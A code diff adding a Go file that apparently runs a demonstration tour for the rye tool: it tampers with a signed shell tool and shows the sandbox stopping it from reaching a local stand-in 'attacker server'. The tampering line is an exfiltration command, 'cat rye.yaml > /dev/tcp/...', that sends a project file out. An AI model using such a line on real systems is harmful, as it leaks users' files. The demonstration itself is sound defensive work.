@@ -1,0 +1,101 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+
+	"github.com/ryeos/rye/diag"
+	"github.com/ryeos/rye/exec/sandbox"
+	"github.com/ryeos/rye/internal/cli"
+)
+
+// careless has the user sign a tampered tool without reading it. The tool sends a
+// file to a server of the attacker, and the sandbox refuses the connection. It is
+// skipped where the system does not isolate the network, or bash is not installed.
+func (t *tour) careless(ctx context.Context) error {
+	if sandbox.Probe().Best == sandbox.Basic || filepath.Ext(t.tool) != ".sh" {
+		return nil
+	}
+	restore, err := t.saved(t.tool, "rye.lock")
+	if err != nil {
+		return err
+	}
+	server, err := listenForTour()
+	if err != nil {
+		return err
+	}
+	defer server.Close()
+	_, text := tourTool()
+	evil := text + fmt.Sprintf("cat rye.yaml > /dev/tcp/127.0.0.1/%d\n", server.port)
+	if err := t.write(t.tool, evil); err != nil {
+		return err
+	}
+	t.say("An attacker adds a line that sends a file of yours to a server.")
+	for line := range strings.Lines(evil[len(text):]) {
+		t.c.UI.Out("  | %s", strings.TrimRight(line, "\n"))
+	}
+	t.c.UI.Out("")
+	err = errors.Join(
+		t.rye(ctx, 0, "You are in a hurry and sign it without reading it.", "sign", "tool:demo/hello"),
+		t.rye(ctx, cli.ExitStatus(diag.ExecutionFailed), "The signature is valid, so it runs: in a sandbox without a network, because the tool asks for none.", "run", "tool", "demo/hello", "name=world"),
+	)
+	if err == nil && server.reached.Load() {
+		err = diag.New(diag.ExecutionFailed, "touring: the tool reached the server of the attacker")
+	}
+	if err == nil {
+		t.say("The server of the attacker received nothing.")
+		t.c.UI.Out("")
+	}
+	return errors.Join(err, restore())
+}
+
+// saved returns a function that restores files of the project.
+func (t *tour) saved(files ...string) (restore func() error, err error) {
+	var texts []string
+	for _, f := range files {
+		b, err := os.ReadFile(filepath.Join(t.project, f))
+		if err != nil {
+			return nil, diag.New(diag.FileSystemError, "reading the scratch project: %w", err)
+		}
+		texts = append(texts, string(b))
+	}
+	return func() error {
+		var errs []error
+		for i, f := range files {
+			errs = append(errs, t.write(f, texts[i]))
+		}
+		return errors.Join(errs...)
+	}, nil
+}
+
+// tourServer is the server of the attacker, on this computer.
+type tourServer struct {
+	net.Listener
+	port    int
+	reached atomic.Bool
+}
+
+func listenForTour() (*tourServer, error) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, diag.New(diag.Network, "starting the server of the attacker: %w", err)
+	}
+	s := &tourServer{Listener: l, port: l.Addr().(*net.TCPAddr).Port}
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			s.reached.Store(true)
+			conn.Close()
+		}
+	}()
+	return s, nil
+}
